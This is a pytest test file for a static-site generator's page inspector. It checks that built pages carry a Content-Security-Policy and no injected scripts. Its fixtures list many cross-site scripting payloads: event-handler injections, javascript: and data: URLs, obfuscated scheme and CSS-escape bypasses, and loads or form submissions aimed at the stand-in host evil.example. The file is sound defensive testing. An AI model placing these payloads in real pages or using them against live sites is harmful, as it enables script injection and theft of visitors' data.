"""The third wall: what a finished page must not hold, whoever put it there."""

from itertools import product
from pathlib import Path

import pytest
from markupsafe import Markup

from making import Showcase
from showcase.inspection import Grounds, inspect
from showcase.inspection.page import Look
from showcase.inspection.places import Places, root_of

POLICY = (
    "default-src 'none'; script-src 'self' 'sha256-n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg='"
)
META = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
FILES = frozenset(
    {"index.html", "servers/index.html", "servers/alpha/index.html", "assets/a.js", "é/index.html"}
)


def page(body: str, head: str = META) -> bytes:
    """A page of ours that holds `body` where contributed text stands."""
    html = f"""<!doctype html><html lang="en"><head><meta charset="utf-8">{head}
    <title>Alpha</title><script src="../../assets/a.js"></script></head>
    <body><header class="md-header"><a href="#sc-name">Skip</a></header><main>
    <article class="md-content__inner"><h1 id="sc-name">Alpha</h1>{body}</article></main>
    </body></html>"""
    return html.encode()


def findings(
    body: str, *, head: str = META, hosts: tuple[str, ...] = (), is_home: bool = False
) -> list[str]:
    places = Places("https://showcase.example/", hosts, FILES)
    return Look(page(body, head), "servers/alpha/", places, is_home=is_home).findings


@pytest.mark.parametrize(
    "body",
    [
        '<p>Plain &lt;script&gt;alert(1)&lt;/script&gt; and onclick="x" as text</p>',
        '<a href="https://example.org/" rel="nofollow">there</a>',
        '<a href="http://example.org/">there</a>',
        '<a href="mailto:us@example.org">mail</a>',
        '<a href="../../">home</a> <a href="../">servers</a> <a href=".">here</a>',
        '<a href="../alpha">the file’s folder</a> <a href="/servers/alpha/?a=b">by the root</a>',
        '<a href="https://showcase.example/servers/alpha/">in full</a>',
        '<a href="../../%C3%A9/">encoded</a>',
        '<a href="#sc-name">part</a> <a href="#">top</a> <a href="#top">top</a>',
        '<img src="../../assets/a.js" srcset="../../assets/a.js 480w, ../../assets/a.js 960w" alt>',
        '<form action="../"><input name="q"></form>',
        '<li style="--sc-color: #336699">x</li>',
        '<script type="application/ld+json">{"@context": "https://schema.org"}</script>',
        '<script type="application/json">{}</script>',
        "<script>test</script>",  # the policy names its hash
        '<svg viewBox="0 0 1 1"><path d="M0 0"></path></svg>',
    ],
)
def test_what_our_templates_write_is_in_order(body: str) -> None:
    assert findings(body) == []


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("<img src=x onerror=alert(1)>", "`onerror` of <img> runs a script"),
        ('<p ONCLICK="x">', "`onclick` of <p> runs a script"),
        ("<p/onclick=x>", "`onclick` of <p>"),
        ('<svg><path onload="x"></path></svg>', "`onload` of <path>"),
        ('<details ontoggle="x" open>', "`ontoggle` of <details>"),
        ("<script>alert(1)</script>", "holds a <script> that no partial"),
        ("<script>test </script>", "holds a <script> that no partial"),
        ('<script type="module">1</script>', "holds a <script>"),
        ('<script src="https://evil.example/x.js"></script>', "loads from evil.example"),
        ('<script src="//evil.example/x.js"></script>', "loads from evil.example"),
        ('<script src="\\\\evil.example/x.js"></script>', "loads from evil.example"),
        ('<script src="/\t/evil.example/x.js"></script>', "loads from evil.example"),
        ('<script src="https:evil.example/x.js"></script>', "loads from evil.example"),
        ('<script src="data:text/javascript,alert(1)"></script>', "<script> loads `data:"),
        ('<img src="https://evil.example/pixel" alt="">', "<img> loads from evil.example"),
        ('<img srcset="a.webp 1x, https://evil.example/b 2x" alt="">', "from evil.example"),
        ('<img src="https://showcase.example@evil.example/" alt="">', "from evil.example"),
        ('<img src="https://showcase.example.evil.example/" alt="">', "example.evil.example"),
        ('<svg><image href="https://evil.example/x"></image></svg>', "evil.example"),
        ('<svg><use xlink:href="https://evil.example/x"></use></svg>', "evil.example"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "from evil.example"),
        ('<link rel="x PRECONNECT" href="https://evil.example">', "from evil.example"),
        ('<p style="background: url(https://evil.example/x)">', "evil.example"),
        ('<p style="background: ur\\6c (//evil.example)">', "hides what it loads"),
        ("<style>*{display:none}</style>", "holds a <style>"),
        ("<style>@import 'https://evil.example/x.css'</style>", "evil.example"),
        ('<a href="javascript:alert(1)">', "leads to `javascript:"),
        ('<a href=" JaVa&#9;Script:alert(1)">', "which is no page"),
        ('<a href="\x01javascript:alert(1)">', "which is no page"),
        ('<a href="data:text/html,x">', "leads to `data:"),
        ('<a href="vbscript:x">', "leads to `vbscript:"),
        ('<a href="https://example.org/" ping="https://evil.example">', "`ping` of <a>"),
        ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "javascript:"),
        ('<form action="https://evil.example/"></form>', "sends what visitors write"),
        ('<button formaction="//evil.example/">x</button>', "sends what visitors write"),
        ('<form action="javascript:alert(1)"></form>', "javascript:"),
        ('<iframe src="https://evil.example/"></iframe>', "<iframe> is no element"),
        ('<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>', "`srcdoc` of <iframe>"),
        ('<object data="x.swf"></object>', "<object> is no element"),
        ('<embed src="x.swf">', "<embed> is no element"),
        ('<base href="https://evil.example/">', "<base> is no element"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "refresh"),
        ("<marquee>x</marquee>", "<marquee> is no element"),
        ("<x-y>x</x-y>", "<x-y> is no element"),
        ("<i>x</i>", "<i> is no element"),
        ("<math><mi>x</mi></math>", "<math> is no element"),
        ("<svg><animate attributeName=href to=javascript:alert(1)></svg>", "<animate>"),
        ("<template><p><img src=x onerror=y></p></template>", "`onerror` of <img>"),
        ("<template><template><b onclick=y></b></template></template>", "`onclick` of <b>"),
        ("<p><template shadowrootmode=open>x</template></p>", "`shadowrootmode` of <template>"),
        ("<svg><foreignObject><p>x</p></foreignObject></svg>", "foreign"),
        ("<textarea><!--</textarea><img src=x onerror=alert(1)>-->", "`onerror` of <img>"),
        ('<p id="sc-name">', "two elements are called `sc-name`"),
        ('<a href="../beta/">', "`../beta/` leads to nothing on this site"),
        ('<a href="/beta/">', "leads to nothing on this site"),
        ('<a href="https://showcase.example/beta/">', "leads to nothing on this site"),
        ('<img src="../../assets/gone.webp" alt="">', "leads to nothing on this site"),
        ('<a href="#gone">', "leads to no part of the page"),
    ],
)
def test_what_does_not_belong_on_a_page_is_found(body: str, told: str) -> None:
    assert any(told in finding for finding in findings(body)), findings(body)


@pytest.mark.parametrize(
    ("head", "told"),
    [
        ("", "has no Content-Security-Policy"),
        (META + META, "a second Content-Security-Policy"),
        (f"<script src='../../assets/a.js'></script>{META}", "before its Content-Security-Policy"),
        (META.replace("default-src 'none'", "default-src *"), "that is not ours"),
        (META.replace("'self'", "'unsafe-inline'"), "lets any script run"),
    ],
)
def test_a_page_needs_its_policy_first_and_once(head: str, told: str) -> None:
    assert any(told in finding for finding in findings("", head=head))


def test_hosts_that_were_allowed_may_be_loaded_from() -> None:
    body = '<img src="https://cdn.example.org/x" alt=""><img src="https://a.b.example.net/" alt="">'
    assert findings(body, hosts=("cdn.example.org", "*.example.net")) == []
    assert len(findings(body, hosts=("example.org", "*.b.example.net.evil"))) == 2


def test_on_the_home_page_maintainers_may_write_what_harms_nobody() -> None:
    video = '<i>Hi</i><iframe src="https://video.example/1"></iframe>'
    assert findings(video, hosts=("video.example",), is_home=True) == []
    assert len(findings(video, is_home=True)) == 1
    assert len(findings("<object data=x></object>", is_home=True)) >= 1


def test_a_site_below_a_path_knows_its_own_addresses() -> None:
    places = Places("https://showcase.example/list/", (), FILES)
    assert not places.place("/list/servers/", "").is_lost
    assert places.place("/list/beta/", "").is_lost
    assert not places.place("/other/", "").is_lost  # another site of the same host


def test_what_is_told_at_a_glance_is_what_a_close_look_tells() -> None:
    names = (
        "a",
        "b.c",
        "index.html",
        "x-index.html",
        "a.html",
        "..x",
        "A",
        "é",
        "%41",
        "a#b",
        "a b",
    )
    files = {*names, *(f"{one}/{two}" for one in names for two in names)}
    places = Places("https://showcase.example/", (), files)
    ways = {*files, *(file.removesuffix("index.html") for file in files), "", ".", "..", "a/../b"}
    told = 0
    for way, folder in product(ways, ("", "a/", "a/b/")):
        address, root = f"{root_of(folder)}{way}", root_of(folder)
        if places.is_file(address, root):
            told += 1
            place = places.place(address, folder)
            assert place.file or place.is_here, address
            assert not place.fragment, address
    assert told > len(files) / 2
    assert not places.is_file("../x-", "../")


@pytest.mark.parametrize(
    ("first", "second", "told"),
    [
        pytest.param("<a href={}>", "<img src={} alt>", "loads from", id="attribute"),
        pytest.param("<a href={}>", "<svg><path href={} /></svg>", "loads from", id="element"),
        pytest.param("<a href={}>", "<link rel=icon href={}>", "loads from", id="relation"),
        pytest.param("<a href={}>", "<form action={}></form>", "sends what", id="form"),
        pytest.param("<img srcset=../assets/a.js>", "<img srcset='{}'>", "loads from", id="list"),
    ],
)
def test_what_was_in_order_once_is_judged_where_it_means_something_else(
    tmp_path: Path, first: str, second: str, told: str
) -> None:
    address = "https://elsewhere.example/"
    one, two = page(first.format(address)), page(second.format(address))
    (line,) = inspect(site_of(tmp_path, one=one, two=two))
    assert line.startswith("two/: ")
    assert told in line


def test_what_leads_somewhere_from_one_depth_is_judged_at_another(tmp_path: Path) -> None:
    body = '<a href="../one/">x</a><img srcset="../assets/a.js, ../one/ 2x" alt>'
    grounds = site_of(tmp_path, one=page(body))
    (tmp_path / "one/deeper").mkdir()
    (tmp_path / "one/deeper/index.html").write_bytes(page(body))
    deeper = Grounds(tmp_path, [*grounds.pages, "one/deeper/index.html"])
    assert inspect(deeper) == [
        f"one/deeper/: `{lost}` leads to nothing on this site. Mend the link, or what it names."
        for lost in ("../one/", "../assets/a.js")
    ]


def test_a_wrong_list_of_pictures_is_told_of_each_page(tmp_path: Path) -> None:
    body = '<img srcset="../assets/a.js, ../gone.webp 2x" alt>'
    (line,) = inspect(site_of(tmp_path, one=page(body), two=page(body)))
    assert line.startswith("one/, two/: `../gone.webp` leads to nothing")


@pytest.mark.posix
def test_folders_that_lead_out_of_the_site_are_not_entered(tmp_path: Path) -> None:
    grounds = site_of(tmp_path / "site", one=page('<a href="../out/">x</a>'))
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/index.html").write_bytes(b"")
    (tmp_path / "site/out").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (line,) = inspect(grounds)
    assert "`../out/` leads to nothing" in line


def site_of(folder: Path, **pages: bytes) -> Grounds:
    for name, html in pages.items():
        path = folder / f"{name}/index.html"
        path.parent.mkdir(parents=True)
        path.write_bytes(html.replace(b"../../assets", b"../assets"))
    (folder / "assets").mkdir()
    (folder / "assets/a.js").write_bytes(b"")
    return Grounds(folder, [f"{name}/index.html" for name in pages])


def test_a_link_to_a_part_of_another_page_needs_that_part(tmp_path: Path) -> None:
    grounds = site_of(
        tmp_path,
        one=page('<a href="../two/#here">a</a><a href="../two/#gone">b</a>'),
        two=page('<p id="here">x</p>'),
    )
    assert inspect(grounds) == ["one/: `../two/#gone` leads to no part of its page. Mend the link."]


def test_what_is_wrong_on_many_pages_is_told_once(tmp_path: Path) -> None:
    many = {f"p{number}": page("<p onclick=x>") for number in range(12)}
    (line,) = inspect(site_of(tmp_path, **many))
    told = "p0/, p1/, p10/, p11/, p2/ and 7 more: `onclick` of <p> runs a script."
    assert line.startswith(told)


def test_a_style_in_the_head_of_all_pages_is_the_frames_own(tmp_path: Path) -> None:
    style = b"<style>:root{--md-text-font:'Roboto'}</style>"
    framed = page("").replace(b"</title>", b"</title>" + style)
    framed = framed.replace(b"</header>", b"<noscript>" + style + b"</noscript></header>")
    grounds = site_of(tmp_path, one=framed, two=framed, three=framed)
    assert inspect(grounds) == []


def test_a_style_of_the_frame_may_name_a_file_from_each_depth(tmp_path: Path) -> None:
    style = "<style>body{{background:url('{}assets/a.js')}}</style>"
    grounds = site_of(tmp_path, one=page("", META + style.format("../../")))
    (tmp_path / "one/deeper").mkdir()
    deeper = page("", META + style.format("../../../")).replace(b"../../assets", b"../../assets")
    (tmp_path / "one/deeper/index.html").write_bytes(deeper.replace(b"../../../", b"../../"))
    assert inspect(Grounds(tmp_path, [*grounds.pages, "one/deeper/index.html"])) == []


def test_a_style_in_the_head_of_some_pages_came_with_a_text(tmp_path: Path) -> None:
    style = "<style>*{display:none}</style>"
    pages = {"one": page(""), "two": page("", META + f"<title></title>{style}"), "three": page("")}
    (line,) = inspect(site_of(tmp_path, **pages))
    assert line.startswith("two/: holds a <style>, which our templates do not.")


def test_a_style_of_the_frame_loads_from_no_host_that_was_not_allowed(tmp_path: Path) -> None:
    style = "<style>@font-face{src:url(https://fonts.example/x.woff2)}</style>"
    grounds = site_of(tmp_path, one=page("", META + style), two=page("", META + style))
    (line,) = inspect(grounds)
    assert line.startswith("one/, two/: <style> loads from fonts.example")
    allowed = Grounds(grounds.folder, grounds.pages, hosts=("fonts.example",))
    assert inspect(allowed) == []


def test_what_harms_nobody_may_stand_in_the_frame_and_not_among_what_others_wrote(
    tmp_path: Path,
) -> None:
    framed = page("").replace(b"</header>", b"<i>since 2019</i></header>")
    assert inspect(site_of(tmp_path / "framed", one=framed)) == []
    (line,) = inspect(site_of(tmp_path / "written", one=page("<i>since 2019</i>")))
    assert "<i> is no element of our templates" in line


def test_only_so_many_findings_are_told(tmp_path: Path) -> None:
    links = "".join(f'<a href="../gone-{number}/">x</a>' for number in range(30))
    lines = inspect(site_of(tmp_path, one=page(links)))
    assert len(lines) == 21
    assert lines[-1] == "10 more findings are not shown."


def test_what_pages_hold_cannot_speak_through_a_finding(tmp_path: Path) -> None:
    bad = '<a href="javascript:\n::error::&#27;[31m\u202e">x</a>'
    (line,) = inspect(site_of(tmp_path, one=page(bad)))
    assert line.isprintable()


def hostile(showcase: Showcase) -> Showcase:
    return showcase.server("alpha", name="A<img src=x onerror=alert(1)>", tags=["chess"])


def test_a_strict_build_of_a_hostile_entry_goes_through(showcase: Showcase) -> None:
    site = hostile(showcase).build(strict=True)
    assert "A<img src=x onerror=alert(1)>" in site.text("servers/alpha/")


def test_a_template_that_forgets_to_escape_fails_a_strict_build(
    showcase: Showcase, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("showcase.pages.environment._escaped", lambda said: Markup(str(said)))
    lines = hostile(showcase).fails(strict=True)
    assert any("servers/alpha/" in line and "`onerror` of <img>" in line for line in lines), lines


def test_a_page_that_forgets_to_escape_its_title_fails_a_strict_build(
    showcase: Showcase, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("showcase.pages.page.html.escape", lambda text, **_: text)
    lines = (
        hostile(showcase)
        .server("beta", name="</title><script>alert(1)</script>")
        .fails(strict=True)
    )
    assert any("servers/beta/" in line and "<script>" in line for line in lines), lines


def test_a_site_whose_base_template_drops_the_policy_fails_a_strict_build(
    showcase: Showcase,
) -> None:
    hostile(showcase).write("ours/main.html", "<!doctype html><title>x</title><p>{{ page.title }}")
    showcase.config["theme"] = {"name": "material", "font": False, "custom_dir": "ours"}
    lines = showcase.fails(strict=True)
    assert any("has no Content-Security-Policy" in line for line in lines), lines


def test_a_site_keeps_the_fonts_of_its_theme_and_is_told_whose_they_are(
    showcase: Showcase,
) -> None:
    showcase.server("alpha")
    showcase.config["theme"] = {"name": "material"}
    site = showcase.build(strict=True)
    policy = site.source("servers/alpha/").partition("Content-Security-Policy")[2]
    assert "font-src 'self' fonts.googleapis.com fonts.gstatic.com;" in policy
    (line,) = [line for line in site.lines("INFO") if "Google" in line]
    assert "`theme.font: false`" in line


def test_pages_of_the_maintainers_own_are_not_judged(showcase: Showcase) -> None:
    hostile(showcase).page("own.md", "# Own\n\n<p onclick=\"x\"><object data='y'></object></p>\n")
    assert showcase.build(strict=True).exists("own/")


def test_a_build_that_is_not_strict_asks_for_no_inspection(
    showcase: Showcase, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("showcase.pages.environment._escaped", lambda said: Markup(str(said)))
    assert hostile(showcase).build().lines("WARNING") == []


def test_a_site_links_to_pages_of_its_maintainers_only_where_they_wrote_them(
    showcase: Showcase,
) -> None:
    showcase.server("alpha", invite="alpha1").answers("alpha1")
    assert "new-to-discord/" not in showcase.build(strict=True).links("servers/alpha/")
    showcase.page("new-to-discord.md", "# New\n")
    assert "new-to-discord/" in showcase.build(strict=True).links("servers/alpha/")
